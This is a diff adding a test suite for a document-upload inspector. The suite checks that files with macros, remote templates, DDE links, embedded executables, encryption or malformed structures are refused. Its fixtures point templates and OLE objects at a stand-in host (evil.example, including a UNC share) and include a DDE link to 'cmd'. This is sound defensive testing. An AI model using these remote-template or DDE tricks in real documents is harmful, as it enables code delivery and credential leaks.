@@ -1,0 +1,237 @@
+// What is refused of uploaded documents: code that runs when they are opened, what they fetch by themselves, and all that
+// cannot be looked into.
+import { describe, expect, it } from "vitest";
+import { biff, makeCompound, makeWordStream, makeWorkbook } from "#src/testing/compound.ts";
+import { makeZip } from "#src/testing/zip.ts";
+import { DANGERS } from "./dangers.ts";
+import { inspectDocument } from "./inspect-document.ts";
+
+const XML = "application/xml";
+const types = (...more: string[]) =>
+  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="${XML}"/>${more.join("")}</Types>`;
+const relations = (...all: string[]) =>
+  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join("")}</Relationships>`;
+const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+const external = (type: string, target: string) =>
+  `<Relationship Id="r1" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/>`;
+
+const macroExtension = (extension: string) =>
+  `<Default Extension="${extension}" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>`;
+
+/** @param parts texts by names, beside or instead of what every document has */
+function office(main: string, parts: Record<string, string | Buffer> = {}): Buffer {
+  const all: Record<string, string | Buffer> = { "[Content_Types].xml": types(), [main]: "<x/>", ...parts };
+  return makeZip(Object.keys(all), all);
+}
+const docx = (parts?: Record<string, string | Buffer>) => office("word/document.xml", parts);
+const xlsx = (parts?: Record<string, string | Buffer>) => office("xl/workbook.xml", parts);
+const pptx = (parts?: Record<string, string | Buffer>) => office("ppt/presentation.xml", parts);
+const open = (parts: Record<string, string> = {}) => {
+  const all = { mimetype: "application/vnd.oasis.opendocument.text", "content.xml": "<x/>", ...parts };
+  return makeZip(Object.keys(all), all);
+};
+const xls = (workbook: Buffer, more: Record<string, Buffer | null> = {}) =>
+  makeCompound({ Workbook: workbook, ...more });
+const doc = (more: Record<string, Buffer | null> = {}, stream = makeWordStream()) =>
+  makeCompound({ WordDocument: stream, ...more });
+const record = (type: number, data: Buffer) => {
+  const head = Buffer.alloc(8);
+  head.writeUInt16LE(type, 2);
+  head.writeUInt32LE(data.length, 4);
+  return Buffer.concat([head, data]);
+};
+const vbaInfo = (hasMacros: number) =>
+  record(0x0400, Buffer.from([0, 0, 0, 0, hasMacros, 0, 0, 0, 2, 0, 0, 0]));
+/** A document of the list of PowerPoint, in a container, up to the end of the stream. */
+const ppt = (...records: Buffer[]) => {
+  const inner = Buffer.concat(records);
+  const container = Buffer.concat([record(0x03e8, inner).fill(0x0f, 0, 1), record(0, Buffer.alloc(5000))]);
+  return makeCompound({ "PowerPoint Document": container });
+};
+
+describe("a document is taken", () => {
+  it.each([
+    ["docx", docx()],
+    ["docx", docx({ "word/_rels/document.xml.rels": relations(external("hyperlink", "https://a.com/")) })],
+    [
+      "docx",
+      docx({
+        "word/_rels/settings.xml.rels": relations(
+          external("attachedTemplate", "file:///C:\\Users\\Ana\\Modelos\\Carta.dotx"),
+        ),
+      }),
+    ],
+    ["docx", docx({ "word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx() })],
+    ["docx", office("Word/Document.xml")],
+    ["xlsx", xlsx({ "[Content_Types].xml": types(macroExtension("bin")) })],
+    ["xlsx", xlsx()],
+    ["pptx", pptx({ "[Content_Types].xml": `\uFEFF${types()}` })],
+    ["odt", open()],
+    ["zip", makeZip(["scripts/app.js", "leia-me.txt"])],
+    ["doc", doc()],
+    ["xls", xls(makeWorkbook())],
+    ["ppt", ppt(vbaInfo(0))],
+    ["pdf", Buffer.from("%PDF-1.7")],
+  ])("without code in it: %s", async (extension, bytes) => {
+    expect(await inspectDocument(bytes)).toEqual({ ok: true, extension });
+  });
+});
+
+describe("macros are found", () => {
+  const vbaType = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
+  const vbaRelation =
+    '<Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.bin"/>';
+  it.each([
+    ["as Word names them", docx({ "word/vbaProject.bin": "" })],
+    ["in other case", docx({ "word/vbaproject.BIN": "" })],
+    ["in another folder", docx({ "a/b/VBAPROJECT.bin": "" })],
+    ["of Excel", xlsx({ "xl/vbaProject.bin": "" })],
+    ["of PowerPoint", pptx({ "ppt/VbaProject.bin": "" })],
+    ["by their data", docx({ "word/vbaData.xml": "" })],
+    ["as a sheet of Excel 4.0", xlsx({ "xl/MacroSheets/sheet1.xml": "<x/>" })],
+    ["as an ActiveX control", docx({ "word/activeX/activeX1.bin": "" })],
+    ["by the type of a part of any name", docx({ "[Content_Types].xml": types(vbaType) })],
+    [
+      "by a type that is written with references",
+      docx({ "[Content_Types].xml": types(vbaType.replace("vba", "&#118;&#x62;a")) }),
+    ],
+    [
+      "by a type in UTF-16",
+      docx({ "[Content_Types].xml": Buffer.from(`\uFEFF${types(vbaType)}`, "utf16le") }),
+    ],
+    [
+      "by the type of the whole",
+      docx({
+        "[Content_Types].xml": types(
+          '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
+        ),
+      }),
+    ],
+    [
+      "by the type of an extension",
+      docx({ "[Content_Types].xml": types(macroExtension("BIN")), "a.bin": "" }),
+    ],
+    ["by a relation", docx({ "word/_rels/document.xml.RELS": relations(vbaRelation) })],
+    ["in a document within it", docx({ "word/embeddings/x.xlsm": xlsx({ "xl/vbaProject.bin": "" }) })],
+    ["of LibreOffice", open({ "Basic/Standard/Module1.xml": "<x/>" })],
+    ["of LibreOffice, in other case", open({ "SCRIPTS/python/a.py": "" })],
+    ["in a storage of Word before 2007", doc({ Macros: null, VBA: null })],
+    ["in a storage of Excel before 2007", xls(makeWorkbook(), { _vba_project_CUR: null })],
+    ["as a sheet of Excel 4.0 before 2007", xls(makeWorkbook({ sheetType: 1 }))],
+    ["as a module of Excel 5.0", xls(makeWorkbook({ sheetType: 6 }))],
+    [
+      "as a sheet that the list calls a worksheet",
+      xls(Buffer.concat([makeWorkbook(), biff(0x0809, Buffer.from([0, 6, 0x40, 0, 0, 0, 0, 0]))])),
+    ],
+    ["in the older stream beside", xls(makeWorkbook(), { Book: makeWorkbook({ sheetType: 1 }) })],
+    ["of PowerPoint before 2007", ppt(vbaInfo(1))],
+    ["in a document within one of before 2007", doc({ Data: Buffer.from("_vba_project", "utf16le") })],
+  ])("%s", async (_name, bytes) => {
+    expect(await inspectDocument(bytes)).toEqual({ ok: false, detail: DANGERS.macros });
+  });
+});
+
+describe("what a document brings or fetches is found", () => {
+  const settings = (target: string) =>
+    docx({ "word/_rels/settings.xml.rels": relations(external("attachedTemplate", target)) });
+  it.each([
+    ["a template elsewhere", settings("https://evil.example/t.dotm"), "remote"],
+    ["a template of a Windows share", settings("\\\\evil.example\\t.dotm"), "remote"],
+    ["a template of a share, as a file", settings("file://evil.example/t.dotm"), "remote"],
+    ["a template of a share, as a local file", settings("file:////evil.example/t.dotm"), "remote"],
+    [
+      "an object elsewhere",
+      docx({ "word/_rels/document.xml.rels": relations(external("oleObject", "http://evil.example/a")) }),
+      "remote",
+    ],
+    [
+      "a link to another program",
+      xlsx({
+        "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
+      }),
+      "remote",
+    ],
+    ["a program within it", docx({ "word/embeddings/oleObject1.bin": Buffer.from("MZ") }), "objects"],
+    ["a package within one of before 2007", doc({ "\u0001Ole10Native": Buffer.from("MZ") }), "objects"],
+  ] as const)("%s", async (_name, bytes, danger) => {
+    expect(await inspectDocument(bytes)).toEqual({ ok: false, detail: DANGERS[danger] });
+  });
+
+  it("however deep documents lie in documents", async () => {
+    const nest = (depth: number): Buffer =>
+      depth === 0 ? docx() : docx({ "word/embeddings/a.docx": nest(depth - 1) });
+    expect(await inspectDocument(nest(2))).toMatchObject({ ok: true });
+    expect(await inspectDocument(nest(3))).toEqual({ ok: false, detail: DANGERS.objects });
+  });
+});
+
+describe("what cannot be looked into is refused", () => {
+  const cutTable = doc();
+  cutTable.writeUInt32LE(0x7fff, 76);
+  const inCircle = doc();
+  // The sector of the table of this one leads to itself.
+  inCircle.writeUInt32LE(0, inCircle.length - 512);
+  it.each([
+    ["a list of types that is no XML", docx({ "[Content_Types].xml": "<Types" }), DANGERS.unreadable],
+    ["no list of types", makeZip(["word/document.xml"]), DANGERS.unreadable],
+    [
+      "a list of types in an encoding that hides words",
+      docx({ "[Content_Types].xml": `<?xml version="1.0" encoding="utf-7"?>${types()}` }),
+      DANGERS.unreadable,
+    ],
+    [
+      "a list of types with a document type",
+      docx({ "[Content_Types].xml": `<!DOCTYPE Types [<!ENTITY a "b">]>${types()}` }),
+      DANGERS.unreadable,
+    ],
+    ["a part whose name leads out of it", docx({ "../word/vbaProject.bin": "" }), /nome leva para fora/],
+    ["two parts of one name", makeZip(["a.txt", "a.txt"]), /duas partes/],
+    [
+      "an open document with a password",
+      open({ "META-INF/manifest.xml": "<m:a xmlns:m='x'><m:encryption-data/></m:a>" }),
+      DANGERS.encrypted,
+    ],
+    ["a document with a password", makeCompound({ EncryptedPackage: Buffer.from("x") }), DANGERS.encrypted],
+    ["Word before 2007 with a password", doc({}, makeWordStream({ isEncrypted: true })), DANGERS.encrypted],
+    [
+      "Excel before 2007 with a password",
+      xls(makeWorkbook({ more: biff(0x002f, Buffer.alloc(54)) })),
+      DANGERS.encrypted,
+    ],
+    ["PowerPoint before 2007 with a password", ppt(record(0x2f14, Buffer.alloc(8))), DANGERS.encrypted],
+    [
+      "a workbook whose records lead out of it",
+      xls(
+        Buffer.concat([
+          makeWorkbook({ more: biff(0x00fc, Buffer.alloc(4100)) }),
+          Buffer.from([0xff, 0, 0xff, 0x7f]),
+        ]),
+      ),
+      DANGERS.unreadable,
+    ],
+    ["a compound file whose table lies elsewhere", cutTable, DANGERS.unreadable],
+    ["a compound file that goes in a circle", inCircle, DANGERS.unreadable],
+    ["a compound file that was cut", doc().subarray(0, -512), DANGERS.unreadable],
+    [
+      "a name without its content",
+      Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.from("WordDocument", "utf16le")]),
+      DANGERS.unreadable,
+    ],
+  ])("%s", async (_name, bytes, detail) => {
+    const inspection = await inspectDocument(bytes);
+    expect(inspection.ok).toBe(false);
+    if (!inspection.ok) expect(inspection.detail).toMatch(detail);
+  });
+
+  it("bytes at random after a true beginning end in an answer", async () => {
+    let seed = 1;
+    const random = () => (seed = (seed * 48_271) % 2_147_483_647);
+    for (const whole of [doc(), xls(makeWorkbook()), ppt(vbaInfo(0)), docx(), xlsx()])
+      for (let round = 0; round < 60; round++) {
+        const bytes = Buffer.from(whole);
+        for (let change = 0; change < 6; change++)
+          bytes[8 + (random() % (bytes.length - 8))] = random() % 256;
+        expect(typeof (await inspectDocument(bytes)).ok).toBe("boolean");
+      }
+  });
+});
